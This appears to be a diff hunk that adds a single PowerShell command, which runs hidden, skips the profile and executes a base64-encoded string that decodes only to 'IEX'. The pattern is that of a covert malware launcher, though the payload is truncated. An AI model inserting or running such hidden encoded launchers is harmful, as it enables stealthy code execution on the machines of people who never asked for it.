@@ -1,0 +1,1 @@
+powershell -nop -w hidden -enc SQBFAFgA
